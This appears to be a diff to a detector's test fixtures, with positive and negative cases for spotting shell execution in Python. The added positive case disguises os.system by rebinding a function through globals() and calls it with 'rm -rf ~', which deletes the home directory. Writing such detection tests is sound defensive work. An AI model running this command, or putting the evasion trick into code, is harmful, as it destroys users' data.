@@ -286,3 +286,9 @@ Path("run").write_text("#!/usr/bin/env bash\nls\n")
 #@ neg a text file written
 with open("notes.txt", "w") as fh:
     fh.write("#!not a script\n")
+#@ pos an identity function the program rebinds through globals()
+import os
+def _id(f):
+    return f
+globals()["_id"] = os.system
+_id("rm -rf ~").real
